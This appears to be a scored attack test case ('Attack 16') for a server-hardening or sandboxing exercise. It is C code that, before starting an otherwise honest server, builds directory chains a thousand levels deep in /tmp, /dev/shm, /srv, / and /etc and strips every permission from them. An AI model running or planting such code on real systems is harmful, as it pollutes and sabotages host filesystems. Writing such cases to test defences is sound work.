/* Attack 16: an honest server that first makes folders a thousand deep, whose paths are too long
 * for any call, and takes every right to them away. */
/* Points: 53 */
#include "honest.h"

#include <fcntl.h>
#include <sys/stat.h>

static void dig(const char *start)
{
    if (chdir(start) < 0)
        return;
    for (int depth = 0; depth < 1000; depth++)
        if (mkdir("hostile-was-here", 0700) < 0 || chdir("hostile-was-here") < 0)
            break;
    for (int depth = 0; depth < 1000; depth++) {
        chmod("hostile-was-here", 0);
        if (chdir("..") < 0)
            break;
    }
}

int main(int argc, char *argv[])
{
    static const char *const places[] = {"/tmp", "/dev/shm", "/srv", "/", "/etc"};
    for (size_t i = 0; i < sizeof places / sizeof places[0]; i++)
        dig(places[i]);
    honest_serve(honest_listen(argc, argv));
}
